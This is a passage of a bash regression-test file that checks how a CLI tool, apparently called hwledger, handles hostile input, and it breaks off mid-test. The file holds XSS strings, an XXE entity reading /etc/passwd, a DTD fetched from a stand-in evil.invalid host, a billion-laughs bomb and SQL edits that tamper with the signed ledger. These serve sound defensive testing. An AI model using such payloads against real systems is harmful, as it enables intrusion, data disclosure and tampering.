# tests/cli/test_hostile.sh — what a hostile or a clumsy user tries
# (issue #23): output folders that are the user's, outputs at links,
# devices and FIFOs, FIFOs at every kind of input; markup in every input
# the site shows, entity bombs, garbage and 100 MB lines, the ledger
# edited with sqlite3, rolled back, killed, written at once and on a full
# disk. Commands that a regression would hang run under `timeout`, so it
# fails instead. The index of the cases tested in other files is below.

# a fixture repository with its evidence, committed (a repository root)
hostile_repo() {
  site_repo
  git init -q . && git add -A && git -c user.name=t -c user.email=t@t commit -qm one
}

# expect_no_hang: the last `run timeout 10 ...` ended by itself
expect_no_hang() {
  [ "$RC" -ne 124 ] && return 0
  echo "timed out: it waited on a FIFO"; return 1
}

# Verifies: FR-SITE-003
test_hostile_site_refuses_a_folder_it_did_not_render() {
  hostile_repo
  mkdir docs && echo notes > docs/notes.txt
  for _ in 1 2; do
    run "$HW" site --checks checks -o docs
    expect_rc 3
    expect_err "hwledger: docs: is not a site hwledger rendered (no .hwledger-site); not replaced (--force replaces it)"
  done
  [ "$(cat docs/notes.txt)" = notes ] && [ "$(ls -A docs)" = notes.txt ]
  [ ! -e .hwledger/site-spare/notes.txt ]
  # an empty folder, or a site it rendered, is replaced
  mkdir empty
  run "$HW" site --checks checks -o empty
  expect_rc 0
  [ "$(cat empty/.hwledger-site)" = hwledger.site/1 ]
  "$HW" -q site --checks checks -o empty
  "$HW" -q site --checks checks -o empty
  [ -s empty/index.html ]
  # a site rendered before the marker is known by its search index
  rm empty/.hwledger-site
  "$HW" -q site --checks checks -o empty
  [ -f empty/.hwledger-site ]
  # a marker that is not the renderer's does not make a site
  mkfifo docs/.hwledger-site
  run timeout 10 "$HW" site --checks checks -o docs
  expect_rc 3
  rm docs/.hwledger-site && echo mine > docs/.hwledger-site
  run "$HW" site --checks checks -o docs
  expect_rc 3
  rm docs/.hwledger-site
  # --force replaces the user's folder, which is removed, never kept as
  # the spare
  run "$HW" site --checks checks -o docs --force
  expect_rc 0
  [ -s docs/index.html ] && [ ! -e docs/notes.txt ]
  [ ! -e .hwledger/site-spare/notes.txt ]
}

# Verifies: FR-SITE-003
test_hostile_site_never_replaces_a_repository() {
  hostile_repo
  mkdir -p work/inner other
  git init -q other && echo mine > other/file
  mkdir -p .hwledger && echo ledger > .hwledger/ledger.db
  for d in . .. "$PWD" .git .git/refs other work/.. .hwledger; do
    run "$HW" site --checks checks -o "$d" --force
    expect_rc 3
    expect_err "never replaced"
  done
  # run from a folder inside the repository: the root holds it
  (cd work/inner && run "$HW" site --checks ../../checks -o ../.. --force && expect_rc 3)
  # a folder of the repository is the user's: refused without --force,
  # and a folder holding files git tracks even with it
  run "$HW" site --checks checks -o src
  expect_rc 3
  run "$HW" site --checks checks -o src --force
  expect_rc 3
  expect_err "hwledger: src: holds files git tracks (src/app.c); never replaced"
  (cd src && run "$HW" site --checks ../checks -o . --force && expect_rc 3)
  # an untracked folder in it is still the user's to replace with --force
  mkdir -p notes && echo mine > notes/n.txt
  run "$HW" site --checks checks -o notes --force
  expect_rc 0
  [ "$(cat other/file)" = mine ] && [ -d other/.git ]
  git status --porcelain | grep -v '^??' | { ! grep .; } || return 1
  [ -f src/app.c ] && [ -d .git/objects ] && [ -s .hwledger/ledger.db ]
}

# Verifies: FR-SITE-003
test_hostile_site_output_link_and_old_name_are_not_replaced() {
  hostile_repo
  mkdir target && echo mine > target/file
  ln -s target link
  run "$HW" site --checks checks -o link
  expect_rc 3
  expect_err "link: is a symbolic link; not replaced"
  [ -L link ] && [ "$(cat target/file)" = mine ]
  # without RENAME_EXCHANGE the old site is moved aside onto a folder of
  # its own, never onto DIR.old, which may be the user's
  mkdir out.old && echo mine > out.old/file
  "$HW" -q site --checks checks -o out
  run env HWLEDGER_SITE_NO_EXCHANGE=1 "$HW" site --checks checks -o out
  expect_rc 0
  run flock .hwledger/site-spare.lock env HWLEDGER_SITE_NO_EXCHANGE=1 "$HW" site --checks checks -o out
  expect_rc 0
  [ "$(cat out.old/file)" = mine ] && [ -s out/index.html ]
  [ "$(ls -d out.old-* 2>/dev/null | wc -l)" = 0 ]
}

# Verifies: FR-SITE-003, FR-REPORT-001
test_hostile_report_refuses_the_sources_before_any_check() {
  report_repo
  sum=$(find src -type f -exec sha256sum {} + | sort | sha256sum)
  run "$HW" report "${REPORT_INPUTS[@]}" -o src
  expect_rc 3
  expect_err "hwledger: src: holds files git tracks (src/app.c); never replaced"
  [ "$(find src -type f -exec sha256sum {} + | sort | sha256sum)" = "$sum" ]
  # refused before anything was signed
  [ ! -e .hwledger/ledger.db ] && [ ! -e build/checks/report.json ]
  run "$HW" report "${REPORT_INPUTS[@]}" -o . --force
  expect_rc 3
  expect_err "never replaced"
  run "$HW" report "${REPORT_INPUTS[@]}" -o src --force
  expect_rc 3
  expect_err "hwledger: src: holds files git tracks"
  [ "$(find src -type f -exec sha256sum {} + | sort | sha256sum)" = "$sum" ]
}

# the fixture's evidence, with which the gate passes
HOSTILE_IN=(--results results.xml --results results.tap --lcov app.info)

# every command with -o FILE, writing to $1
hostile_outputs() { # FILE
  "$HW" trace "${HOSTILE_IN[@]}" --format json -o "$1"
  "$HW" gate "${HOSTILE_IN[@]}" --format json -o "$1"
  "$HW" sast --import "$FIXTURES/sast/cppcheck.xml" --format json -o "$1" || [ $? = 1 ]
  "$HW" glossary import "$FIXTURES/glossary/pdf-export.txt" -o "$1"
}

# Verifies: FR-CLI-006
test_hostile_output_at_a_link_writes_its_target_and_keeps_it() {
  cp -r "$FIXTURES/trace/ours" repo && cd repo
  mkdir sub
  ln -s sub/mid out.json && ln -s end.json sub/mid   # the last dangles
  while read -r cmd; do
    rm -f sub/end.json
    run eval "$cmd"
    expect_rc 0
    [ -L out.json ] && [ -L sub/mid ] && [ -s sub/end.json ]
  done <<'EOF'
"$HW" trace "${HOSTILE_IN[@]}" --format json -o out.json
"$HW" gate "${HOSTILE_IN[@]}" --format json -o out.json
"$HW" sast --import "$FIXTURES/sast/cppcheck.xml" --format json -o out.json || [ $? = 1 ]
"$HW" glossary import "$FIXTURES/glossary/pdf-export.txt" -o out.json
EOF
  grep -q 'hwledger.glossary\|"terms"' sub/end.json
  ln -s loop loop
  run "$HW" trace --results results.xml -o loop
  expect_rc 3
  expect_err "loop: cannot follow the link"
}

# Verifies: FR-CLI-006
test_hostile_output_at_a_device_or_fifo_is_written_into() {
  cp -r "$FIXTURES/trace/ours" repo && cd repo
  # devices reached through links, so that a regression replaces the
  # link here and never the device
  ln -s /dev/null null && ln -s /dev/full full
  hostile_outputs null
  [ -L null ] && [ -c /dev/null ]
  for cmd in "trace ${HOSTILE_IN[*]}" "gate ${HOSTILE_IN[*]}" \
    "sast --import $FIXTURES/sast/cppcheck.xml" \
    "glossary import $FIXTURES/glossary/pdf-export.txt"; do
    # shellcheck disable=SC2086
    run "$HW" $cmd --format json -o full
    expect_rc 3
    expect_err "full: write failed: No space left on device"
    [ -L full ] && [ -c /dev/full ]
  done
  # a FIFO gets the bytes (its reader started first) and stays a FIFO
  mkfifo fifo
  "$HW" trace --results results.xml --format json > want.json
  cat fifo > got.json &
  run timeout 10 "$HW" trace --results results.xml --format json -o fifo
  wait
  expect_rc 0
  cmp want.json got.json
  [ -p fifo ]
  # a folder is refused
  mkdir dir
  run "$HW" trace --results results.xml -o dir
  expect_rc 3
  expect_err "dir: cannot write: is a folder"
}

# Verifies: FR-CLI-007
test_hostile_fifo_inputs_of_trace_and_frs_are_refused() {
  cp -r "$FIXTURES/trace/ours" repo && cd repo
  mkfifo fifo
  for args in "trace --results fifo" "trace --lcov fifo" "gate --results fifo"; do
    # shellcheck disable=SC2086
    run timeout 10 "$HW" $args
    expect_no_hang
    expect_rc 2
    expect_err "hwledger: fifo: not a regular file"
  done
  # an FR document
  mkfifo frs/more.md
  for cmd in "frs lint" "frs list" "trace"; do
    # shellcheck disable=SC2086
    run timeout 10 "$HW" $cmd
    expect_no_hang
    expect_rc 2
    expect_err "hwledger: frs/more.md: not a regular file"
  done
  rm frs/more.md
  # the configuration and the policy
  mkdir -p traceability
  mv traceability/config.json config.json 2>/dev/null || true
  mkfifo traceability/config.json
  run timeout 10 "$HW" trace
  expect_no_hang
  expect_rc 2
  expect_err "hwledger: traceability/config.json: not a regular file"
  rm traceability/config.json
  mkfifo traceability/policy.json
  run timeout 10 "$HW" gate --results results.xml
  expect_no_hang
  expect_rc 2
  expect_err "hwledger: traceability/policy.json: not a regular file"
}

# Verifies: FR-CLI-007
test_hostile_fifo_inputs_of_ledger_plan_glossary_sast_are_refused() {
  cp -r "$FIXTURES/trace/ours" repo && cd repo
  mkfifo fifo m.safetensors m.gguf
  "$HW" -q ledger keygen --name a > /dev/null
  while read -r cmd; do
    run eval timeout 10 "$cmd"
    expect_no_hang
    expect_rc 2
    expect_err "not a regular file"
  done <<'EOF'
"$HW" ledger append --kind x --payload fifo
"$HW" plan --model fifo --ctx 8k --gpu 'H100 SXM'
"$HW" plan --model m.safetensors --ctx 8k --gpu 'H100 SXM'
"$HW" plan --model m.gguf --ctx 8k --gpu 'H100 SXM'
"$HW" glossary import fifo
"$HW" glossary lint fifo
"$HW" sast --import fifo
EOF
  # the trusted keys
  mkfifo traceability/trusted_keys
  run timeout 10 "$HW" ledger verify
  expect_no_hang
  expect_rc 2
  expect_err "hwledger: traceability/trusted_keys: not a regular file"
  # stdin, where documented, is still read
  echo '{"a": 1}' | "$HW" -q ledger append --kind x --payload -
}

# Verifies: FR-CLI-007
test_hostile_fifo_in_the_evidence_folder_is_refused() {
  site_repo
  for doc in trace.json gate.json sast.json coverage.info; do
    [ -e "checks/$doc" ] && mv "checks/$doc" keep
    mkfifo "checks/$doc"
    run timeout 10 "$HW" site --checks checks -o out
    expect_no_hang
    expect_rc 2
    expect_err "hwledger: checks/$doc: not a regular file"
    rm "checks/$doc"
    [ -e keep ] && mv keep "checks/$doc"
  done
  [ ! -e out ]
}

# Verifies: FR-CLI-007, FR-REPORT-002
test_hostile_fifo_in_a_signed_site_is_refused() {
  report_repo
  "$HW" -q report "${REPORT_INPUTS[@]}" >/dev/null 2>&1
  # the signer trusted, so that what fails below is the FIFO
  key=(--key build/checks/signing-key.pub)
  "$HW" -q verify-report "${key[@]}" build/site
  # a FIFO as the trusted keys: refused, never waited on nor taken as
  # "no key trusted"
  mkfifo keys
  run timeout 10 "$HW" verify-report build/site --key keys
  expect_no_hang
  expect_rc 2
  expect_err "keys: not a regular file"
  # a FIFO in place of a page the manifest lists, of the manifest, of the
  # bundle's events
  cp -r build/site site
  for f in matrix.html manifest.json ledger/bundle/events.jsonl; do
    rm -rf build/site && cp -r site build/site
    rm "build/site/$f" && mkfifo "build/site/$f"
    run timeout 10 "$HW" verify-report "${key[@]}" build/site
    expect_no_hang
    expect_rc 1
    expect_err "verify-report FAILED"
    expect_err "$f"
  done
}

# Verifies: FR-CLI-007
test_hostile_fifo_named_as_a_library_is_refused() {
  cp -r "$FIXTURES/trace/ours" repo && cd repo
  git init -q . && git add -A && git -c user.name=t -c user.email=t@t commit -qm one
  mkfifo lib.so
  # NVML: no driver, reported as a reading
  run timeout 10 env HWLEDGER_NVML_LIB="$PWD/lib.so" "$HW" probe --json
  expect_no_hang
  expect_rc 0
  expect_out "lib.so cannot be loaded"
  # libgit2, which the ledger's git side loads
  "$HW" -q ledger keygen --name a > /dev/null
  "$HW" -q ledger append --kind x
  "$HW" -q ledger checkpoint > /dev/null
  run timeout 10 env HWLEDGER_LIBGIT2="$PWD/lib.so" "$HW" ledger anchor
  expect_no_hang
  expect_rc 3
  expect_err "lib.so: not a regular file"
}

# ---------------------------------------------------------------------
# The cases of issue #23 that held, kept held. Where a case is tested
# elsewhere it is not repeated here:
#   escaping of FR titles, HTML in FR text, odd file names:
#     test_site.sh test_site_handles_odd_file_names_and_hostile_titles;
#     every special character: unit/test_site.c
#     test_escape_covers_every_special_character
#   entity bomb and deep nesting in cppcheck XML, truncated cppcheck XML
#     and SARIF: test_sast.sh test_sast_broken_reports_are_exit_2_and_write_nothing;
#     JUnit: unit/test_results.c test_junit_refuses_entity_bombs_and_broken_xml
#   truncated TAP, JUnit and lcov: test_trace.sh test_trace_bad_inputs_exit_2_with_file_and_line
#   NUL bytes and invalid UTF-8 in FR documents: unit/test_frs.c
#     test_empty_binary_and_non_utf8_documents_are_errors; a source
#     file with a NUL: test_trace.sh test_scan_reports_links_loops_and_odd_files
#   FR documents over the size cap: test_frs.sh test_frs_default_size_cap_is_4_mib
#   ledger edits at the API (flipped bytes, re-signed, swapped key id,
#     deleted, reordered, duplicated, inserted events, rollback to an
#     older copy, cut or rewritten tail, forks): unit/test_tamper.c;
#     the bundle edited: test_ledger.sh test_ledger_bundle_verifies_offline_and_catches_edits;
#     the anchor ref moved back: test_ledger_checkpoint_and_anchor_on_the_git_ref
#   two writers, a writer killed mid-batch, a full disk, at the API:
#     unit/test_ledger_io.c
#   a report whose site cannot be written keeps the ledger and the old
#     site: test_report.sh test_report_unwritable_site_keeps_the_ledger_and_the_old_site
#   a changed byte of a signed site: test_report.sh test_verify_report_fails_on_any_changed_byte
#   stdout at /dev/full: test_cli.sh test_a_failed_write_to_stdout_is_exit_3
# Below: the same attacks through the CLI, as a user would make them.

# expect_no_crash: the last `run` ended with an exit code of its own, not
# a signal (128+N) or a timeout
expect_no_crash() {
  [ "$RC" -lt 124 ] && return 0
  echo "exit $RC: crashed or hung"; echo "stderr: $ERR"; return 1
}

# a file of SIZE bytes of x on one line, made once per test
big_line() { # FILE SIZE
  head -c "$2" /dev/zero | tr '\0' x > "$1"
}

# Verifies: FR-SITE-003
test_hostile_site_escapes_markup_in_every_kind_of_input() {
  site_repo
  printf '\n## FR-APP-004: </textarea></title><script>alert(1)</script>\nRev: 1\nStatus: approved\nNeeds: impl, utest\n\nSee "x" and '"'"'y'"'"' ><img src=x onerror=alert(2)> </textarea><script>alert(3)</script>\n' >> frs/app.md
  printf '\n- **<script>alert(4)</script>:** a term "quoted" </textarea><svg onload=alert(5)>\n' >> specs/glossary.md
  printf '/* Implements: FR-APP-004 */\nint odd(void)\n{\n\treturn 4;\n}\n' > 'src/"><svg onload=alert(6)>.c'
  printf '/* Verifies: FR-APP-004 */\nvoid test_odd(void)\n{\n}\n' > 'tests/test_<b>odd<i>.c'
  sed 's|</testsuite>|<testcase classname="\&lt;script\&gt;alert(7)\&lt;/script\&gt;" name="test_odd"><failure message="\&lt;/textarea\&gt;\&lt;script\&gt;alert(8)\&lt;/script\&gt;"/></testcase></testsuite>|' results.xml > hostile.xml
  "$HW" trace --results hostile.xml --results results.tap --lcov app.info \
    --format json -o checks/trace.json 2>/dev/null || true
  run "$HW" site --checks checks -o out
  expect_rc 0
  grep -rlF 'test_odd' out >/dev/null || { echo "the hostile test is not rendered"; return 1; }
  grep -rlF 'FR-APP-004' out/fr >/dev/null
  # no page carries any of the markup as markup (the search index is
  # data, shown by site/app.js with textContent)
  for bad in '<script>alert' '<img src=x' '<svg onload' '</textarea></title>' '<b>odd<i>'; do
    if grep -rlF --include='*.html' --include='*.svg' -- "$bad" out; then
      echo "unescaped: $bad"; return 1
    fi
  done
  # ...but as text (the result's classname and message are not shown)
  for n in 1 2 3 4 5 6; do
    grep -rqF --include='*.html' "alert($n)" out || { echo "alert($n) not shown"; return 1; }
  done
  grep -qF '&lt;/textarea&gt;&lt;/title&gt;&lt;script&gt;alert(1)' out/fr/FR-APP-004.html
}

# Verifies: FR-TRACE-002, FR-SAST-001
test_hostile_xml_with_entities_is_refused_before_any_expansion() {
  cp -r "$FIXTURES/trace/ours" repo && cd repo
  # billion laughs, an external entity, a parameter entity
  { printf '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    p=lol
    for i in 1 2 3 4 5 6 7 8 9; do
      printf '<!ENTITY lol%d "' "$i"
      for _ in 1 2 3 4 5 6 7 8 9 10; do printf '&%s;' "$p"; done
      printf '">'; p=lol$i
    done
    printf ']>\n<testsuites><testcase name="&lol9;"/></testsuites>\n'; } > laughs.xml
  printf '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<testsuites><testcase name="&x;"/></testsuites>\n' > external.xml
  printf '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY %% p SYSTEM "http://evil.invalid/x.dtd"> %%p;]>\n<testsuites/>\n' > param.xml
  for f in laughs external param; do
    run timeout 20 "$HW" trace --results "$f.xml"
    expect_rc 2
    expect_err "hwledger: $f.xml:2:"
    expect_err "DOCTYPE refused: test reports may not declare entities"
    expect_no_out
    sed 's/testsuites/results/g; s/testcase/error/g' "$f.xml" > "c-$f.xml"
    run timeout 20 "$HW" sast --import "c-$f.xml" --format json -o out.json
    expect_rc 2
    expect_err "hwledger: c-$f.xml:2:"
    expect_err "DOCTYPE refused: analyzer reports may not declare entities"
    [ ! -e out.json ]
  done
  ! grep -rq 'root:' . 2>/dev/null || { echo "/etc/passwd leaked"; return 1; }
}

# Verifies: FR-SAST-001
test_hostile_sarif_nested_a_million_deep_is_refused() {
  cp -r "$FIXTURES/trace/ours" repo && cd repo
  { printf '{"version": "2.1.0", "runs": '; head -c 1000000 /dev/zero | tr '\0' '['; } > deep.sarif
  run timeout 20 "$HW" sast --import deep.sarif --format json -o out.json
  expect_no_crash
  expect_rc 2
  expect_err "hwledger: deep.sarif:1:"
  [ ! -e out.json ]
  printf '{"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "x\0y"}}}]}' > nul.sarif
  run timeout 20 "$HW" sast --import nul.sarif
  expect_rc 2
  expect_err "hwledger: nul.sarif:1:62: invalid JSON: contains a NUL byte"
}

# Verifies: FR-CLI-007, FR-CLI-005
test_hostile_binary_and_huge_inputs_are_refused_with_their_file() {
  cp -r "$FIXTURES/trace/ours" repo && cd repo
  big_line big 104857600
  # a 100 MB line where a capped input is read
  ln big frs/big.md
  run timeout 20 "$HW" frs lint
  expect_rc 2
  expect_err "hwledger: frs/big.md: file is 104857600 bytes, over the limit of 4194304"
  rm frs/big.md
  cp traceability/config.json config.keep
  ln -f big traceability/config.json
  run timeout 20 "$HW" trace
  expect_rc 2
  expect_err "hwledger: traceability/config.json: file is 104857600 bytes, over the limit of"
  # NUL bytes, invalid UTF-8, brackets nested past any stack
  rm traceability/config.json   # a link to big: written, it would cut big
  printf '{"schema": "hwledger.config/1",\0}' > traceability/config.json
  run timeout 20 "$HW" trace
  expect_rc 2
  expect_err "hwledger: traceability/config.json:1:32: invalid JSON: contains a NUL byte"
  printf '{"schema": "hwledger.config/1\377"}' > traceability/config.json
  run timeout 20 "$HW" trace
  expect_rc 2
  expect_err "hwledger: traceability/config.json:1:"
  head -c 100000 /dev/zero | tr '\0' '[' > traceability/config.json
  run timeout 20 "$HW" trace
  expect_no_crash
  expect_rc 2
  expect_err "hwledger: traceability/config.json:1:"
  cp config.keep traceability/config.json
  # test results and coverage
  printf '1..1\nok 1 - test_add\0\n' > nul.tap
  run timeout 20 "$HW" trace --results nul.tap
  expect_rc 2
  expect_err "hwledger: nul.tap:2:"
  printf '<testsuites><testcase name="a\377b"/></testsuites>' > bad.xml
  run timeout 20 "$HW" trace --results bad.xml
  expect_rc 2
  expect_err "hwledger: bad.xml:1:"
  expect_err "malformed XML"
  printf 'SF:src/app.c\0\nDA:1,1\nend_of_record\n' > nul.info
  run timeout 20 "$HW" trace --lcov nul.info
  expect_rc 2
  expect_err "hwledger: nul.info:1:"
  run timeout 20 "$HW" trace --results big
  expect_no_crash
  expect_rc 2
  expect_err "hwledger: big:1: no plan (1..N)"
}

# Verifies: FR-PLAN-001
test_hostile_plan_models_that_are_garbage_are_refused() {
  big_line big.json 104857600
  printf '{"hidden_size": 4096,\0}' > nul.json
  printf '{"hidden_size": 4096, "model_type": "\377"}' > utf.json
  head -c 100000 /dev/zero | tr '\0' '[' > deep.json
  printf '{"hidden_size": 40' > cut.json
  printf 'GGUF\3\0\0\0\0\0\0\0\0\0\0\0\377\377\377\377\377\377\377\177' > huge.gguf
  printf '\377\377\377\377\377\377\377\177{' > huge.safetensors
  for m in big.json nul.json utf.json deep.json cut.json huge.gguf huge.safetensors; do
    run timeout 20 "$HW" plan --model "$PWD/$m" --ctx 8k --gpu 'H100 SXM'
    expect_no_crash
    expect_rc 2
    expect_err "$m"
    expect_no_out
  done
}

# a repository with a ledger of four events signed by alice, verified
hostile_ledger() {
  git init -q . && git -c user.name=t -c user.email=t@t commit -q --allow-empty -m one
  "$HW" -q ledger keygen --name alice > alice.line
  mkdir -p traceability && cp alice.line traceability/trusted_keys
  for k in a b c d; do "$HW" -q ledger append --kind "$k"; done
  "$HW" -q ledger verify
}

# sql SQL: runs SQL on the ledger as a hostile user would
sql() { sqlite3 .hwledger/ledger.db "$1"; }

# expect_verify_fails TEXT: `ledger verify` exits 1 naming TEXT
expect_verify_fails() {
  run timeout 20 "$HW" ledger verify
  expect_rc 1
  expect_err "hwledger: ledger verify FAILED: $1"
}

# Verifies: FR-LEDGER-002
test_hostile_ledger_triggers_refuse_sql_updates_and_deletes() {
  hostile_ledger
  # INSERT OR REPLACE deletes the row it replaces without the delete
  # trigger
  for q in "UPDATE events SET kind='z' WHERE seq=1" "DELETE FROM events WHERE seq=3" \
    "DELETE FROM events" "INSERT INTO events SELECT * FROM events WHERE seq=0" \
    "INSERT OR REPLACE INTO events SELECT seq, prev, time_ns, 'z', git_commit, payload_type, payload, hash, key_id, sig FROM events WHERE seq=1" \
    "REPLACE INTO events SELECT * FROM events WHERE seq=2" \
    "INSERT INTO events SELECT * FROM events WHERE seq=3 ON CONFLICT(seq) DO UPDATE SET kind='z'"; do
    run sql "$q"
    [ "$RC" -ne 0 ] || { echo "the database took: $q"; return 1; }
    expect_err "ledger events are append-only"
  done
  [ "$(sql "SELECT group_concat(kind, '') FROM events")" = abcd ]
  "$HW" -q ledger verify
  # triggers dropped by hand come back with the next command
  sql "DROP TRIGGER events_no_update; DROP TRIGGER events_no_delete; DROP TRIGGER events_no_replace"
  "$HW" -q ledger append --kind e
  run sql "DELETE FROM events WHERE seq=4"
  expect_err "ledger events are append-only"
  run sql "REPLACE INTO events SELECT * FROM events WHERE seq=4"
  expect_err "ledger events are append-only"
  "$HW" -q ledger verify
}

# Verifies: FR-LEDGER-004
test_hostile_ledger_edits_with_the_triggers_dropped_are_caught() {
  hostile_ledger
  cp .hwledger/ledger.db good.db
  while IFS='|' read -r q want; do
    cp good.db .hwledger/ledger.db
    sql "DROP TRIGGER events_no_update; DROP TRIGGER events_no_delete; $q"
    expect_verify_fails "$want"
  done <<'EOF2'
UPDATE events SET kind='z' WHERE seq=1|event 1: its hash does not match its bytes (the event was edited)
UPDATE events SET payload=CAST('{"x": 1}' AS BLOB) WHERE seq=2|event 2: its hash does not match its bytes
UPDATE events SET seq=seq+10 WHERE seq IN (1, 2); UPDATE events SET seq=1 WHERE seq=12; UPDATE events SET seq=2 WHERE seq=11|event 1:
UPDATE events SET sig=(SELECT sig FROM events WHERE seq=0) WHERE seq=2|event 2: the signature does not verify (forged, altered or non-canonical)
UPDATE events SET time_ns=0 WHERE seq=3|event 3:
DELETE FROM events WHERE seq=1|event 1:
DELETE FROM events WHERE seq=3|event 3: this machine verified 4 events before; the ledger now has 3 (rollback or a cut tail)
INSERT INTO events SELECT seq+4, prev, time_ns, kind, git_commit, payload_type, payload, hash, key_id, sig FROM events WHERE seq=3|event 4:
EOF2
  cp good.db .hwledger/ledger.db
  "$HW" -q ledger verify
}

# Verifies: FR-LEDGER-004
test_hostile_ledger_forged_signature_and_swapped_key_line_are_caught() {
  hostile_ledger
  "$HW" -q ledger keygen --name mallory --dir k > mallory.line
  # an event signed by mallory but stored under alice's key id
  HWLEDGER_SIGNING_KEY=k/mallory.key "$HW" -q ledger append --kind e
  cp .hwledger/ledger.db good.db
  sql "DROP TRIGGER events_no_update; UPDATE events SET key_id=(SELECT key_id FROM events WHERE seq=0) WHERE seq=4"
  expect_verify_fails "event 4:"
  cp good.db .hwledger/ledger.db
  expect_verify_fails "event 4: signed by key id"
  # mallory's key under alice's name and key id in the trusted keys
  # (base64 may hold a +: the key is all after the second one)
  id=$(cut -d+ -f2 alice.line) key=$(sed 's/^[^+]*+[^+]*+//' mallory.line)
  echo "alice+$id+$key" > traceability/trusted_keys
  run timeout 20 "$HW" ledger verify
  expect_rc 2
  expect_err "hwledger: traceability/trusted_keys:1: key id $id does not match the name and key"
  # alice's key line swapped for mallory's: alice's events are untrusted
  cp mallory.line traceability/trusted_keys
  expect_verify_fails "event 0: signed by key id"
}

# Verifies: FR-LEDGER-004
test_hostile_ledger_copied_back_after_a_verify_is_a_rollback() {
  hostile_ledger
  "$HW" -q ledger checkpoint >/dev/null
  "$HW" -q ledger verify
  cp -r .hwledger old
  "$HW" -q ledger append --kind e
  "$HW" -q ledger checkpoint >/dev/null
  "$HW" -q ledger verify
  cp .hwledger/ledger.db new.db
  # the database copied back: this machine verified more
  cp old/ledger.db .hwledger/ledger.db
  expect_verify_fails "event 4: this machine verified 5 events before; the ledger now has 4 (rollback or a cut tail)"
  # events after the last checkpoint cut, the checkpoints kept
  cp new.db .hwledger/ledger.db
  "$HW" -q ledger append --kind f
  "$HW" -q ledger verify
  cp new.db .hwledger/ledger.db
  expect_verify_fails "event 5: this machine verified 6 events before; the ledger now has 5 (rollback or a cut tail)"
  # anchored, then the whole folder copied back, what this machine
  # verified last included: the anchor ref still holds the larger
  # checkpoint
  rm -rf .hwledger && cp -r old .hwledger
  "$HW" -q ledger anchor
  cp -r .hwledger old2
  "$HW" -q ledger append --kind e
  "$HW" -q ledger checkpoint >/dev/null
  "$HW" -q ledger anchor
  "$HW" -q ledger verify
  rm -rf .hwledger && cp -r old2 .hwledger
  expect_verify_fails "event 4: anchored checkpoint"
  expect_err "covers 5 events but the ledger has only 4 (events were removed)"
}

# events in the ledger
ledger_count() { "$HW" ledger log --json | jq '.events | length'; }

# Verifies: FR-LEDGER-002
test_hostile_ledger_append_killed_at_any_point_leaves_it_whole() {
  hostile_ledger
  # 1 MB payloads; kills spread over an append's ~0.1 s (the last ones
  # land after it ended): wherever one lands, the batch of two is all
  # there or not at all
  head -c 700000 /dev/urandom | base64 -w0 | sed 's/.*/"&"/' > big.json
  for delay in 0 0.03 0.06 0.09 0.15; do
    before=$(sql 'SELECT count(*) FROM events')
    "$HW" -q ledger append --kind a --payload big.json --kind b --payload big.json &
    pid=$!
    sleep "$delay"
    kill -9 "$pid" 2>/dev/null || true
    wait "$pid" || true
    after=$(sql 'SELECT count(*) FROM events')
    [ "$after" = "$before" ] || [ "$after" = $((before + 2)) ] ||
      { echo "killed after ${delay}s: $before events became $after"; return 1; }
  done
  "$HW" -q ledger append --kind z
  run timeout 20 "$HW" ledger verify
  expect_rc 0
}

# Verifies: FR-LEDGER-002
test_hostile_ledger_concurrent_appends_all_land_in_one_chain() {
  hostile_ledger
  pids=()
  for w in p q r s; do
    ( for _ in 1 2 3 4 5; do "$HW" -q ledger append --kind "$w" --kind "$w"; done ) &
    pids+=($!)
  done
  for p in "${pids[@]}"; do wait "$p"; done
  run timeout 20 "$HW" ledger verify
  expect_rc 0
  expect_out "44 events verified"
  # each writer's pairs are adjacent: batches never interleave
  run "$HW" ledger log --json
  jq -e '[.events[4:][] | .kind] as $k | [range(0; 40; 2) | select($k[.] != $k[. + 1])] | length == 0' <<<"$OUT" >/dev/null
  for w in p q r s; do
    [ "$(jq "[.events[] | select(.kind == \"$w\")] | length" <<<"$OUT")" = 10 ]
  done
}

# run_small_disk CMD...: runs CMD with files capped at 64 KiB, as on a
# full disk (writes past the cap fail with EFBIG, as with ENOSPC; the
# signal that would kill the process is ignored, as hwledger's callers'
# shells may not)
run_small_disk() {
  run bash -c 'trap "" XFSZ; ulimit -f 64; exec "$@"' small-disk "$@"
}

# Verifies: FR-LEDGER-002
test_hostile_ledger_append_on_a_full_disk_loses_nothing() {
  hostile_ledger
  head -c 300000 /dev/urandom | base64 -w0 | sed 's/.*/"&"/' > big.json
  run_small_disk "$HW" ledger append --kind big --payload big.json
  expect_rc 3
  expect_err "hwledger: .hwledger/ledger.db: "
  [ "$(ledger_count)" = 4 ]
  "$HW" -q ledger verify
  "$HW" -q ledger append --kind e
  "$HW" -q ledger verify
  [ "$(ledger_count)" = 5 ]
}

# Verifies: FR-CLI-006, FR-SITE-003
test_hostile_outputs_on_a_full_disk_keep_the_old_file() {
  site_repo
  "$HW" -q site --checks checks -o out
  sum=$(find out -type f -exec sha256sum {} + | sort | sha256sum)
  # 1000 more FRs: pages and a trace over the cap
  seq 1000 | awk '{ printf "## FR-BIG-%03d: Big %d\nRev: 1\nStatus: draft\nNeeds: impl\n\nText %d.\n\n", $1, $1, $1 }' > frs/big.md
  "$HW" trace --results results.tap --format json -o checks/trace.json 2>/dev/null || true
  run_small_disk "$HW" site --checks checks -o out
  expect_rc 3
  expect_err "write failed: File too large"
  [ "$(find out -type f -exec sha256sum {} + | sort | sha256sum)" = "$sum" ]
  echo old > trace.json
  run_small_disk "$HW" trace --results results.tap --format json -o trace.json
  expect_rc 3
  expect_err "hwledger: trace.json: write failed: File too large"
  [ "$(cat trace.json)" = old ]
  # no temporary file is left behind
  [ "$(ls -A | grep -c 'trace\.json')" = 1 ]
}

# Verifies: FR-SITE-003, FR-CLI-007
test_hostile_site_evidence_that_is_garbage_is_refused() {
  site_repo
  "$HW" -q site --checks checks -o out
  sum=$(find out -type f -exec sha256sum {} + | sort | sha256sum)
  cp checks/trace.json keep.json
  big_line big 104857600
  while IFS='@' read -r edit want; do
    cp keep.json checks/trace.json
    eval "$edit"
    run timeout 20 "$HW" site --checks checks -o out
    expect_no_crash
    expect_rc 2
    expect_err "hwledger: checks/trace.json$want"
  done <<'EOF2'
